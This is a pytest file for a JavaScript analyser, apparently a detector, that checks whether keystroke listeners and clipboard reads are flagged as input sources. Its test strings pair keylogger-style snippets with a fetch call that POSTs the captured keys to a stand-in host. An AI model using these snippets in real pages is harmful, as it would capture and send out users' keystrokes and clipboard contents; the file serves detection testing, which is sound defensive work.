from __future__ import annotations

import pytest

from assay.javascript.read import read
from assay.model.source import BehaviourKind

SEND = "fetch('https://a.invalid', { method: 'POST', body: keys });"


def reads_keys(code: str) -> bool:
    flows = read("a.js", code.encode()).flows
    return any(flow.source.kind is BehaviourKind.INPUT_READ for flow in flows)


@pytest.mark.parametrize(
    "code",
    [
        "let keys = ''; document.addEventListener('keydown', (e) => { keys += e.key; });",
        "let keys = []; window.addEventListener('keypress', function (e) { keys.push(e.which); });",
        "let keys = ''; document.onkeyup = (e) => { keys = keys + e.code; };",
        "const keys = await navigator.clipboard.readText();",
    ],
)
def test_keys_and_the_clipboard_are_sources(code: str) -> None:
    assert reads_keys(f"{code} {SEND}")


@pytest.mark.parametrize(
    "code",
    [
        "let keys = ''; document.addEventListener('click', (e) => { keys += e.key; }); 'keydown'",
        "let keys = ''; list.forEach((e) => { keys += e.key; }); 'keydown'",
        "let keys = ''; document.addEventListener('keydown', (e) => { keys = box.value; });",
        "await navigator.clipboard.writeText('x'); const keys = 1;",
    ],
)
def test_other_events_and_values_are_none(code: str) -> None:
    assert not reads_keys(f"{code} {SEND}")
